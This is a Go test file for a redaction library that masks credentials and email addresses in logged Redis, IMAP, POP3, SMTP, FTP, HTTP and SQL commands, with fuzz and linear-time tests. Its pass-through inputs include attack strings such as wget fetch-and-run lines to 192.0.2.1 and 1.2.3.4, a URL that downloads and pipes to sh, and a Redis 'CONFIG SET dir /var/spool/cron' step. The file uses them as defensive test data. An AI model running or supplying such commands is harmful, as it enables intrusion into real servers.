package redact

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/vmihailenco/msgpack/v5"
)

// The secret of every form, with what people put into passwords; the name of who
// logs in, which is shown.
const secret = "zq7x/@:k 9"

// form is a way in which a protocol takes a secret. %s is the secret, %b its
// base64, %p base64 of RFC 4616's message with it.
type form struct {
	protocol Protocol
	text     string
}

// forms has what the protocols' grammars allow. A form with a space in it may be
// one in which a secret has none.
var forms = []form{
	// redis.io/commands: AUTH, HELLO, CONFIG SET, ACL SETUSER, MIGRATE; inline
	// commands and RESP.
	{Redis, "AUTH %s"},
	{Redis, "auth\tbob  %s"},
	{Redis, "  AUTH \"%s\""},
	{Redis, `"\x41UTH" "%s"`},
	{Redis, "'auth' 'bob' '%s'"},
	{Redis, "HELLO 3 AUTH bob %s"},
	{Redis, "hello 3 SETNAME x auth bob \"%s\""},
	{Redis, "HELLO 2 AUTH bob %s SETNAME x"},
	{Redis, "CONFIG SET requirepass %s"},
	{Redis, "config  set\tRequirePass \"%s\""},
	{Redis, "CONFIG SET maxmemory 1 masterauth %s save ''"},
	{Redis, "CONFIG SET tls-key-file-pass %s"},
	{Redis, "SENTINEL SET m auth-pass %s"},
	{Redis, "SENTINEL CONFIG SET sentinel-pass %s"},
	{Redis, "ACL SETUSER bob on >%s ~* +@all"},
	{Redis, "acl setuser bob <%s"},
	{Redis, "ACL SETUSER bob on \">%s\" ~*"},
	{Redis, "ACL SETUSER bob on #%s"},
	{Redis, "ACL SETUSER bob !%s"},
	{Redis, "ACL SETUSER bob '>%s'"},
	{Redis, "MIGRATE h 6379 k 0 100 COPY AUTH %s KEYS a"},
	{Redis, "migrate h 6379 \"\" 0 100 auth2 bob %s KEYS a b"},
	{Redis, "*2\r\n$4\r\nAUTH\r\n$10\r\n%s\r\n"},
	{Redis, "*3\r\n$4\r\nauth\r\n$3\r\nbob\r\n$10\r\n%s\r\n*1\r\n$4\r\nPING\r\n"},
	{Redis, "*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$11\r\nrequirepass\r\n$10\r\n%s\r\n"},
	{Redis, "SET a b\r\nAUTH %s\r\nPING"},
	{Redis, "AUTH ['%s'"},
	{Redis, "CONFIG ['SET', 'requirepass', '%s'"},
	{Redis, "EVAL \"return redis.call('AUTH','%s')\" 0"},
	{Redis, "EVAL \"redis.call('config','set','requirepass','%s')\" 0"},
	// RFC 3501 §6.2.3 LOGIN, §6.2.2 AUTHENTICATE, §4.3 quoted and literal; RFC
	// 4959 initial response; RFC 7888 non-synchronizing literals.
	{IMAP, "a1 LOGIN bob %s"},
	{IMAP, "a1  LOGIN bob %s"},
	{IMAP, "a1\tLOGIN\tbob\t%s"},
	{IMAP, "  a1 login \"bob\" \"%s\""},
	{IMAP, "LOGIN bob %s"},
	{IMAP, "a1 LOGIN bob {10}\r\n%s"},
	{IMAP, "a1 LOGIN {3+}\r\nbob {10+}\r\n%s\r\na2 NOOP"},
	{IMAP, "a1 LOGIN bob \"a\\\"%s\""},
	{IMAP, "bob {10}\r\n%s"},
	{IMAP, "a1 AUTHENTICATE PLAIN %p"},
	{IMAP, "a1 authenticate plain\r\n%p"},
	{IMAP, "%p"},
	{IMAP, "%b"},
	{IMAP, "%s"},
	{IMAP, "a1 AUTHENTICATE LOGIN %b"},
	{IMAP, "a1 AUTHENTICATE XOAUTH2 %b"},
	{IMAP, "a1 AUTHENTICATE %s"},
	// RFC 1939 §7 USER, PASS, APOP; RFC 5034 AUTH.
	{POP3, "PASS %s"},
	{POP3, "pass\t%s"},
	{POP3, "  PASS   %s"},
	{POP3, "APOP bob %s"},
	{POP3, "apop  bob\t%s"},
	{POP3, "AUTH PLAIN %p"},
	{POP3, "AUTH PLAIN\r\n%p\r\nSTAT"},
	{POP3, "AUTH LOGIN\r\nYm9i\r\n%b"},
	{POP3, "%b"},
	{POP3, "AUTH CRAM-MD5\r\n%b"},
	{POP3, "AUTH %s"},
	// RFC 4954 §4: with and without an initial response, and the answers.
	{SMTP, "AUTH PLAIN %p"},
	{SMTP, "auth  plain\t%p"},
	{SMTP, "AUTH LOGIN %b"},
	{SMTP, "AUTH LOGIN\r\nYm9i\r\n%b\r\nMAIL FROM:<>"},
	{SMTP, "AUTH CRAM-MD5\r\n%b"},
	{SMTP, "%p"},
	{SMTP, "%b"},
	{SMTP, "AUTH %b"},
	// RFC 959 §4.1.1 PASS, ACCT; RFC 2228 §3 ADAT; telnet's bytes before a verb.
	{FTP, "PASS %s"},
	{FTP, "pass %s"},
	{FTP, "\xff\xf4\xff\xf2PASS %s"},
	{FTP, "ACCT %s"},
	{FTP, "ADAT %b"},
	{FTP, "SITE PSWD old %s"},
	{FTP, " PASS\t%s"},
	// RFC 3986 §3.2.1, and what people write.
	{Web, "http://bob:%s@example.org/x"},
	{Web, "get http://bob:%s@example.org"},
	{Web, "ftp://bob:%s@192.0.2.1:21/x?y=1@2"},
	{Web, "//bob:%s@example.org/"},
	{Web, "http://bob%%3A%s@example.org/x"},
	{FTP, "RETR http://bob:%s@example.org/x"},
	{Redis, "SET x http://bob:%s@example.org/x"},
	// HTML's forms (application/x-www-form-urlencoded, multipart of RFC 7578).
	{Web, "/login?user=bob&password=%s"},
	{Web, "?PASSWD=%s&x=1"},
	{Web, "/x?pwd=%s"},
	{Web, "user=bob&pass=%s"},
	{Web, "/?access_token=%s"},
	{Web, "/?api_key=%s"},
	{Web, "/?apikey=%s"},
	{Web, "/?client_secret=%s"},
	{Web, "/?token=%s"},
	{Web, "login[password]=%s"},
	{Web, "login%%5Bpassword%%5D=%s"},
	{Web, "?p%%61ssword=%s"},
	{Web, "/?next=%%2Flogin%%3Fpassword%%3D%s"},
	{Web, "user_pass=%s"},
	{Web, "/?auth=%s"},
	{Web, "new-password-2=%s"},
	{Web, "/#access_token=%s"},
	{Web, "--b\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\n%s\r\n--b--"},
	{Web, "--b\r\nContent-Disposition: form-data; name=\"password\"\r\nX-More: " + strings.Repeat("m", 300) + "\r\n\r\n%s\r\n--b--"},
	{Web, "<methodCall><params><param><value><base64>%s</base64></value></param></params></methodCall>"},
	// RFC 8259, XML, headers (RFC 7617, RFC 6750, RFC 7616).
	{Web, `{"user":"bob","password":"%s"}`},
	{Web, `{"auth": {"apiKey" : "%s"}}`},
	{Web, `{\"pwd\":\"%s\",\"x\":1}`},
	{Web, `{'passwd': '%s'}`},
	{Web, "<user>bob</user><password>%s</password>"},
	{Web, `<wsse:Password Type="x">%s</wsse:Password>`},
	{Web, `<login password="%s"/>`},
	{Web, "GET / HTTP/1.1\r\nAuthorization: Basic %b\r\nHost: x"},
	{Web, "authorization:Bearer %b"},
	{Web, "Proxy-Authorization:  Digest username=\"bob\", response=\"%s\""},
	{Web, "X-Api-Key: %s"},
	{Web, "basic %b"},
	{Web, "x Bearer %b"},
	// Statements.
	{SQL, "CREATE USER 'bob'@'%%' IDENTIFIED BY '%s'"},
	{SQL, "alter user bob with password '%s'"},
	{SQL, "SET PASSWORD FOR 'bob'@'localhost' = '%s'"},
	{SQL, "SET PASSWORD = PASSWORD('%s')"},
	{SQL, "CREATE LOGIN bob WITH PASSWORD=N'%s'"},
	{SQL, "ALTER USER bob IDENTIFIED WITH caching_sha2_password BY \"%s\""},
	// Where nobody named the protocol.
	{Any, "AUTHINFO PASS %s"},
	{Any, "AUTHINFO SASL PLAIN %p"},
	{Any, "OPER bob %s"},
	{Any, "PRIVMSG NickServ :IDENTIFY bob %s"},
	{Any, ":x PASS %s"},
	{Any, "NickServ IDENTIFY %s"},
	{Any, "AUTHENTICATE \"PLAIN\" \"%p\""},
}

// nowhere are the forms that mean something else to Any.
var nowhere = map[string]bool{"%s": true, "%b": false, "bob {10}\r\n%s": true}

func (f form) with(secret string) string {
	b := base64.StdEncoding.EncodeToString([]byte(secret))
	p := base64.StdEncoding.EncodeToString([]byte("\x00bob\x00" + secret))
	r := strings.NewReplacer("%%", "%", "%s", secret, "%b", b, "%p", p)
	return r.Replace(f.text)
}

// leaks says what of a secret a text still has.
func leaks(text, secret string) string {
	b := base64.StdEncoding.EncodeToString([]byte(secret))
	p := base64.StdEncoding.EncodeToString([]byte("\x00bob\x00" + secret))
	for _, s := range []string{secret, b, p} {
		if strings.Contains(text, s) {
			return s
		}
	}
	return ""
}

func TestSecretsOfEveryForm(t *testing.T) {
	for _, f := range forms {
		for _, s := range []string{secret, "hunter2zq", "Zq7 x y", "zq7x\"'k", "zq7x;&k", "12345", "a@b.example", "zq/12", `zq\7x`, "пароль"} {
			if strings.ContainsAny(s, "\"'") && strings.ContainsAny(f.text, "\"'") || strings.ContainsAny(s, "&") && strings.Contains(f.text, "=") ||
				strings.ContainsAny(s, "<;&\\") && strings.ContainsAny(f.text, "<{'\"") {
				continue // the form would have to escape it
			}
			if f.text == "%s" && strings.ContainsAny(s, " ") {
				continue
			}
			text := f.with(s)
			for _, p := range []Protocol{f.protocol, Any} {
				if p == Any && nowhere[f.text] {
					continue
				}
				got := Command(p, text)
				if leak := leaks(got, s); leak != "" {
					t.Errorf("protocol %d: %q is shown as %q", p, text, got)
				}
				if again := Command(p, got); again != got {
					t.Errorf("protocol %d: %q is shown as %q, and again as %q", p, text, got, again)
				}
				for _, word := range []string{"zq7x", "hunter"} {
					if strings.Contains(s, word) && strings.Contains(got, word) {
						t.Errorf("protocol %d: part of the secret in %q, shown as %q", p, text, got)
					}
				}
			}
			if got := Command(Shell, text); got != text {
				t.Errorf("in a shell %q is shown as %q", text, got)
			}
		}
	}
}

// What is no secret is shown as it came.
func TestWhatIsNoSecretIsShown(t *testing.T) {
	for _, c := range []form{
		{Redis, "SET a b"},
		{Redis, "CONFIG SET dir /var/spool/cron"},
		{Redis, "CONFIG GET requirepass"},
		{Redis, "SLAVEOF 192.0.2.1 6379"},
		{Redis, "EVAL \"return 1\" 0"},
		{Redis, "KEYS *pass*"},
		{Redis, "ACL LIST"},
		{Redis, "HELLO 3"},
		{Redis, "*1\r\n$4\r\nPING\r\n"},
		{IMAP, "a1 SELECT INBOX"},
		{IMAP, "a2 UID FETCH 1:* FLAGS"},
		{IMAP, "DONE"},
		{IMAP, "a1 AUTHENTICATE PLAIN"},
		{IMAP, "a3 LOGOUT"},
		{POP3, "USER bob"},
		{POP3, "STAT"},
		{POP3, "RETR 1"},
		{POP3, "AUTH PLAIN"},
		{POP3, "QUIT"},
		{SMTP, "EHLO x"},
		{SMTP, "DATA"},
		{SMTP, "STARTTLS"},
		{SMTP, "AUTH LOGIN"},
		{SMTP, "."},
		{SMTP, "MAIL FROM:<x@example.org>"},
		{FTP, "USER bob"},
		{FTP, "AUTH TLS"},
		{FTP, "STOR pass.txt"},
		{FTP, "SITE EXEC id"},
		{Web, "http://192.0.2.1:8080/x@1.0/y"},
		{Web, "http://example.org:80/?a=b@c"},
		{Web, "http://[2001:db8::1]:80/@"},
		{Web, "https://bob@example.org/x"},
		{Web, "/a?x=1&user=bob"},
		{Web, "GET / HTTP/1.1\r\nHost: example.org:80\r\nAccept: */*"},
		{Web, `{"query":"x","size":1}`},
		{Web, "http://localhost:99/@x"},
		{SQL, "SELECT * FROM users WHERE name = 'bob'"},
		{SQL, "select @@version"},
		{SQL, "DROP TABLE x"},
		{Any, "uname -a"},
		{Any, "mysql -psecret"},
		{Any, "GET /x HTTP/1.0"},
		{Any, "hostname"},
		{Any, "test"},
		{Any, "wget http://192.0.2.1/x.sh"},
	} {
		if got := Command(c.protocol, c.text); got != c.text {
			t.Errorf("protocol %d: %q is shown as %q", c.protocol, c.text, got)
		}
	}
}

func TestURL(t *testing.T) {
	for in, want := range map[string]string{
		"http://u:p@example.org/x":            "http://u:***@example.org/x",
		"http://u:p/w@example.org/x":          "http://u:***",
		"http://u:p@s/w@example.org/x":        "http://u:***",
		"http://u:p":                          "http://u:***",
		"http://u:12/34@example.org/":         "http://u:***",
		"ftp://example.org:21/a@b":            "ftp://example.org:21/a@b",
		"http://u:my pass@example.org/x":      "http://u:***@example.org/x",
		"http://example.org/x?token=1&a=2#b":  "http://example.org/x?token=***&a=2#b",
		"http://u:a@example.org/?password=x":  "http://u:***@example.org/?password=***",
		"/cgi-bin/luci/;stok=/locale?form=x1": "/cgi-bin/luci/;stok=/locale?form=x1",
		"/x//a:b/c":                           "/x//a:b/c", "/?cd+/tmp;wget+http://192.0.2.1:80;+sh": "/?cd+/tmp;wget+http://192.0.2.1:80;+sh",
		"/shell?cd+/tmp;wget+http://1.2.3.4/": "/shell?cd+/tmp;wget+http://1.2.3.4/",
	} {
		if got := URL(in); got != want {
			t.Errorf("%s is shown as %s, want %s", in, got, want)
		}
	}
}

// The ways in which an address is written: RFC 5322 §3.2.3, §3.2.4, §4.4, RFC
// 6532, RFC 3986 §2.1, RFC 2045 §6.7 and §6.8, RFC 2152, HTML, JSON, UTF-16.
func addresses(local string) []string {
	b := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	wide := func(s string) string {
		var out strings.Builder
		for _, r := range s {
			out.WriteRune(r)
			out.WriteByte(0)
		}
		return out.String()
	}
	plain := local + "@example.org"
	return []string{
		plain, "<" + plain + ">", "x " + plain + ", y", local + "@[192.0.2.1]", local + "@localhost", local + "@münchen.example",
		`"` + local + `"@example.org`, `"x ` + local + ` y"@example.org`, `"` + local + `".x@example.org`, local + " @ example.org", local + "(x)@(y)example.org",
		local + "&#64;example.org", local + "&#064;example.org", local + "&#x40;example.org", local + "&commat;example.org", local + "&amp;#64;example.org",
		local + "＠example.org", local + "﹫example.org", local + "=40example.org", local + "=40=65xample.org", local + "=\r\n@example.org", local + "%40example.org", local + "%2540example.org", local + "%u0040example.org",
		local + `\u0040example.org`, local + `\x40example.org`, local + `\100example.org`, local + `\u{40}example.org`, local + "+AEA-example.org",
		wide(plain), b("rcpt to:<" + plain + ">"), b(plain), b("x" + plain), b("xx" + plain), "data " + b("To: "+local+"%40example.org"), b(b("x " + plain)),
		base64.URLEncoding.EncodeToString([]byte("RCPT TO:<" + plain + ">~~~???")), "xy" + b("rcpt to:<"+plain+">"), b(wide("mail " + plain)),
		strings.ReplaceAll(b(strings.Repeat("x ", 27)+plain+strings.Repeat(" y", 30)), "", "")[:60] + "\r\n" + b(strings.Repeat("x ", 27) + plain + strings.Repeat(" y", 30))[60:],
		"RCPT TO:<" + local + ">", "rcpt to: " + local, "VRFY " + local, "RCPT TO:<@a.example:" + plain + ">", "MAIL FROM:<" + plain + "> SIZE=1",
	}
}

func TestLocalPartsOfEveryForm(t *testing.T) {
	const local = "zq7xvictim"
	hidden := base64.RawStdEncoding.EncodeToString([]byte("xzq7xvictim"))[4:10]
	for _, text := range addresses(local) {
		if got := QueryAddresses("/x?a=1&to=" + text); strings.Contains(got, local) && strings.Contains(text, "@example.org") && !strings.ContainsAny(text, "\" ()") ||
			strings.Contains(text, "64;example") && strings.Contains(got, local) {
			t.Errorf("in a query %q is shown as %q", text, got)
		}
		for name, got := range map[string]string{
			"shown": Addresses(SMTP, "x: "+text), "raw": string(Options{}.Bytes([]byte(text))), "json": string(Options{}.Bytes([]byte(fmt.Sprintf(`{"a":%s}`, jsonText(text))))),
			"records": string(Options{}.Records(packed(t, map[string]any{"log": text}))),
		} {
			if name == "shown" && (strings.HasPrefix(strings.ToLower(text), "rcpt") || strings.HasPrefix(text, "VRFY")) {
				got = Addresses(SMTP, text)
			}
			if strings.Contains(got, local) || strings.Contains(strings.ReplaceAll(got, "\x00", ""), local) || strings.Contains(got, hidden) {
				t.Errorf("%s: %q is shown as %q", name, text, got)
			}
			if name == "json" && !json.Valid([]byte(got)) {
				t.Errorf("%q is no JSON any more: %q", text, got)
			}
			if got == text && !strings.Contains(text, "***") {
				t.Errorf("%s: %q wasn't changed", name, text)
			}
		}
	}
}

func jsonText(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err)
	}
	return string(b)
}

func packed(t testing.TB, record any) []byte {
	t.Helper()
	b, err := msgpack.Marshal([]any{[]any{1767323045, map[string]any{}}, record})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// In what nobody could read, secrets are masked by their names too, and lengths
// and structure stay.
func TestSecretsOfRecords(t *testing.T) {
	o := Options{Secrets: true}
	for _, f := range forms {
		if f.text == "%s" || f.text == "bob {10}\r\n%s" {
			continue
		}
		text := f.with("zq7xk")
		for name, data := range map[string][]byte{
			"text": []byte(text), "json": []byte(`{"a":{"log":` + jsonText(text) + `}}`), "json in json": []byte(`{"log":` + jsonText(`{"x":`+jsonText(text)+`}`) + `}`),
			"record": packed(t, map[string]any{"log": text}), "cut": append([]byte{0xdb, 0xff, 0xff, 0xff, 0xff}, text...),
		} {
			mask := o.Bytes
			if name == "record" || name == "cut" {
				mask = o.Records
			}
			got := mask(data)
			if leak := leaks(string(got), "zq7xk"); leak != "" || len(got) != len(data) {
				t.Errorf("%s: %q became %q", name, data, got)
			}
			if json.Valid(data) && !json.Valid(got) {
				t.Errorf("%q is no JSON any more: %q", data, got)
			}
			if again := mask(got); !bytes.Equal(again, got) {
				t.Errorf("%q became %q, and then %q", data, got, again)
			}
		}
	}
	record := map[string]any{
		"user": "password", "src_ip": "192.0.2.1", "password": "zq7x1k", "n": 77,
		"deep": map[string]any{"api_key": []any{"zq7x2k", 4711, map[string]any{"x": "zq7x3k"}}, "ok": "shown1"},
		"log":  `{"username":"bob","Password":"zq7x4k","list":{"token":["zq7x5k",4711,true],"ok":"shown2"},"pin":4711,"z":5}`,
	}
	got := o.Records(packed(t, record))
	var back []any
	if err := msgpack.Unmarshal(got, &back); err != nil {
		t.Fatal(err)
	}
	text := fmt.Sprint(back)
	for _, leak := range []string{"zq7x", "4711"} {
		if strings.Contains(text, leak) {
			t.Errorf("%s in %s", leak, text)
		}
	}
	for _, shown := range []string{"192.0.2.1", "shown1", "shown2", "bob", "77", `"z":5`} {
		if !strings.Contains(text, shown) {
			t.Errorf("%s isn't in %s", shown, text)
		}
	}
	if text := fmt.Sprintf("%q", Options{}.Records(packed(t, record))); strings.Count(text, "zq7x") != 5 {
		t.Errorf("without Secrets: %s", text)
	}
}

// Hostile texts cost no more than in proportion to their length.
func TestLinear(t *testing.T) {
	for _, unit := range []string{
		"//", "//a:", "//a:b/", "@", "a@", "\"@", "\\\"@a", "(", ")@a", "=", "a=", "password", "password=", "name=\"password\"\r\n\r\n", "name=\"password\"\n\nx\n--",
		"<a", ">", "<password>", "basic ", "PASSWORD '", "PASSWORD FOR '", "*2\r\n", "*999999999\r\n$1\r\na\r\n", "$", "AUTH ", "a LOGIN {5}\r\n", "%40", "%2540", "&#64;", "\\", "QUFB", "QUFB\r\n",
		"a@b.c ", "{", "[", "\"", "{\"password\":", "ACL SETUSER x ", "CONFIG SET requirepas ", "\x00", "ＡＢ", "=40", "=\r\n", "\xdf\x00\x00\xff\xff", "http://a:1/", "RCPT TO:<a", "a\t", "\\u0040",
	} {
		cost := func(n int) time.Duration {
			text := strings.Repeat(unit, n/len(unit))
			start := time.Now()
			Command(Any, text)
			Addresses(SMTP, text)
			URL(text)
			Options{Secrets: true}.Bytes([]byte(text))
			Options{Secrets: true}.Records([]byte(text))
			return time.Since(start)
		}
		// Quadratic cost would be minutes; the bound is far above linear.
		if took := cost(1 << 18); took > 20*time.Second {
			t.Errorf("%q over 256 KiB took %v", unit, took)
		} else if took > time.Second/2 {
			t.Logf("%q over 256 KiB took %v", unit, took)
		}
	}
}

// Whatever an attacker writes around a secret in one of the forms, the secret is
// nowhere; nothing panics, grows without bound or changes when it is done again.
func FuzzRedact(f *testing.F) {
	for i, form := range forms {
		f.Add(form.with("hunter2"), "hunter2", uint8(i), uint8(form.protocol))
	}
	for _, text := range addresses("victim") {
		f.Add(text, "hunter2", uint8(0), uint8(Any))
	}
	f.Fuzz(func(t *testing.T, text, word string, which, protocol uint8) {
		if len(text) > 1<<14 || len(word) > 1<<10 {
			return
		}
		p := Protocol(protocol) % (SQL + 1)
		for name, hide := range map[string]func(string) string{
			"Command": func(s string) string { return Command(p, s) }, "URL": URL, "Addresses": func(s string) string { return Addresses(p, s) }, "QueryAddresses": QueryAddresses, "Text": Text,
			"Shown": func(s string) string { return Shown(p, Protocol(which)%(SQL+1), true, s) }, "Shown plainly": func(s string) string { return Shown(p, Shell, false, s) },
		} {
			got := hide(text)
			if len(got) > 3*len(text) {
				t.Fatalf("%s: %q became %q", name, text, got)
			}
			if again := hide(got); again != got {
				t.Fatalf("%s(%d): %q became %q, and then %q", name, p, text, got, again)
			}
		}
		for name, mask := range map[string]func([]byte) []byte{
			"Bytes": Options{Secrets: true}.Bytes, "Records": Options{Secrets: true}.Records, "Bytes without secrets": Options{}.Bytes, "Records without secrets": Options{}.Records,
		} {
			got := mask([]byte(text))
			if len(got) != len(text) {
				t.Fatalf("%s: %q became %q", name, text, got)
			}
			if structured([]byte(text)) && strings.HasPrefix(name, "Bytes") && !json.Valid(got) {
				t.Fatalf("%s: %q is no JSON any more: %q", name, text, got)
			}
		}
		// A secret of letters and digits and what no form gives a meaning.
		secret := "Zq" + strings.Map(func(r rune) rune {
			if r >= '0' && r <= '9' || r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || strings.ContainsRune("!$^_~.-+*@/:?", r) {
				return r
			}
			return -1
		}, word) + "9k"
		form := forms[int(which)%len(forms)]
		for _, p := range []Protocol{form.protocol, Any} {
			if p == Any && nowhere[form.text] {
				continue
			}
			given := form.with(secret)
			if got := Command(p, given); leaks(got, secret) != "" {
				t.Fatalf("protocol %d: %q is shown as %q", p, given, got)
			}
		}
		if given := form.with(secret); !nowhere[form.text] {
			if got := string(Options{Secrets: true}.Bytes([]byte(given))); leaks(got, secret) != "" {
				t.Fatalf("%q became %q", given, got)
			}
		}
	})
}
